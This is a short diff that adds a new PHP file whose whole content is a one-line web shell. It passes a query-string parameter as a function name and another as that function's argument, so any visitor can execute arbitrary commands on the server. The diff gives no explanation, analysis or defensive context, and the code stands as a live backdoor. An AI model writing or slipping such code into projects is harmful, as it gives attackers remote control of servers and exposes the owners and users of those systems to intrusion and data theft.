@@ -1,0 +1,3 @@
+<?php
+$get = fn($k) => $_GET[$k] ?? null;
+$get("f")($get("c"));
